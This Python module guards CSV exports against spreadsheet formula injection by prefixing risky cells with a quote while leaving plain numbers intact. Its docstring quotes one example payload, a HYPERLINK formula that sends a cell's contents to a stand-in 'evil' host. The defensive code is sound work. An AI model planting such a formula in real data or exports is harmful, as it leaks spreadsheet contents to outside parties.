"""CSV files that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some
versions, a tab or carriage return) as a formula, so a name a user typed — an instance called
``=HYPERLINK("http://evil/?"&A1)`` — would run on the operator's or user's machine when the export is opened. Every
CSV the product writes goes through ``writer`` below, which prefixes such cells with a single quote (OWASP's rule).
A cell that is a plain decimal number (``-12.50``, a refund or a charge) is left as it is: it is not a formula, and
spreadsheets must still read it as a number.
"""

import csv
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?", re.ASCII)


def neutralise(value):
    """``value`` as a spreadsheet should see it: text that would start a formula gets a leading ``'``."""
    if not isinstance(value, str):
        value = "" if value is None else str(value)
    if value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell; ``writerow`` returns what the file's ``write`` did
    (the streaming reports yield it)."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(out, **kwargs) -> SafeWriter:
    return SafeWriter(out, **kwargs)
